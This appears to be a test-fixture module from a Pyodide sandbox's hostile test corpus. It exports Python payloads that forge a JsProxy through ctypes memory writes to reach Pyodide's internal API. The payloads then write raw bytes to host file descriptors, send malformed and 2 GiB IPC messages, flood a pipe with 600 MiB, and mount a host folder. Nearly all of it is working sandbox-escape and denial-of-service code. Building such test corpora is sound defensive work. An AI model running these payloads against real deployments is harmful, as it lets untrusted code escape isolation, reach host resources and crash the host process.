/**
 * Python for the hostile corpus: find Pyodide's public API by every route a hostile review
 * tried, then use it against the host. `FIND_PYODIDE_API` defines `find_pyodide_api()`, which
 * returns the API or raises `LookupError("no route to the Pyodide API")`. It first imports
 * Pyodide's own modules (several import pyodide_js when loaded), then tries: any `sys.modules`
 * key starting with pyodide_js, importlib, every JS object any Python object holds, and a
 * JsProxy forged with ctypes to point at every live slot of Pyodide's JS reference table (what
 * memory corruption, which ctypes gives every job, can always do).
 */
export const FIND_PYODIDE_API = String.raw`
import ctypes, gc, importlib, sys, time
from pyodide.ffi import JsProxy

def _import_pyodide_modules():
    for name in ("pyodide.http", "pyodide.console", "pyodide.webloop", "pyodide._package_loader", "pyodide._state", "pyodide._nodesock_transport", "_pyodide.jsbind"):
        try:
            importlib.import_module(name)
        except Exception:
            pass

def _api_of(value):
    try:
        if hasattr(value, "_module"):
            return value._api.public_api
        if hasattr(value, "public_api"):
            return value.public_api
    except Exception:
        pass
    return None

def _imported():
    yield from [sys.modules[k] for k in list(sys.modules) if k.startswith("pyodide_js")]
    for name in ("pyodide_js", "pyodide_js._api", "pyodide_js._module"):
        try:
            yield importlib.import_module(name)
        except ImportError:
            pass

def _held_anywhere():
    gc.unfreeze()
    for holder in gc.get_objects():
        yield from [v for v in gc.get_referents(holder) if isinstance(v, JsProxy)]

def _forged():
    # Pyodide 314: a JsProxy keeps its JS reference 36 bytes in; a live slot's info has bit 0 set.
    info = ctypes.pythonapi._hiwire_slot_info
    info.restype, info.argtypes = ctypes.c_uint32, [ctypes.c_int32]
    import js as carrier
    field = ctypes.c_int32.from_address(id(carrier) + 36)
    original = field.value
    if original & 1 != 1:
        raise RuntimeError("the JsProxy layout changed: update the forged-reference route")
    try:
        for index in range(1, 256):
            slot = info(index)
            if slot & 1:
                field.value = (slot >> 26 << 26) | (index << 1) | 1
                yield carrier
    finally:
        field.value = original

def find_pyodide_api():
    _import_pyodide_modules()
    for route in (_imported(), _held_anywhere(), _forged()):
        for candidate in route:
            api = _api_of(candidate)
            if api is not None:
                return api
    raise LookupError("no route to the Pyodide API")

def raw_write(fd, chunk, total, seconds=15):
    """NODEFS's write on a stream we make, naming any host descriptor; retries while the pipe is full."""
    module = find_pyodide_api()._module
    stream = module.constructor()
    stream.nfd = fd
    buffer = ctypes.create_string_buffer(chunk, len(chunk))
    written, deadline = 0, time.monotonic() + seconds
    while written < total and time.monotonic() < deadline:
        try:
            written += module.NODEFS.stream_ops.write(stream, module.HEAPU8, ctypes.addressof(buffer), len(chunk), None)
        except Exception:
            pass
    return written
`;

const MIB = 2 ** 20;

/** Node's "advanced" IPC framing: a 4-byte length, then V8-serialised data (0xfe is no valid tag). */
export const IPC_BAD_MESSAGE = String.raw`raw_write(4, b"\x00\x00\x00\x04\xff\x0f\xfe\xfe", 8)`;
/** Declares a 2 GiB message on the IPC channel, then streams 400 MiB of it. */
export const IPC_HUGE_MESSAGE = `raw_write(4, b"\\x7f\\xff\\xff\\xff", 4)\nraw_write(4, b"x" * ${MIB}, ${400 * MIB})`;
/** 600 MiB on the frame pipe without a newline, then the newline. */
export const FRAME_FLOOD = `raw_write(3, b"x" * ${MIB}, ${600 * MIB})\nraw_write(3, b"\\n", 1)`;
/** Mounts a host folder the worker may read (Pyodide's own) and lists it. */
export const MOUNT_HOST_FOLDER = `api = find_pyodide_api()\napi.mountNodeFS("/wk", api._api.config.indexURL)\nsorted(__import__("os").listdir("/wk"))[:3]`;
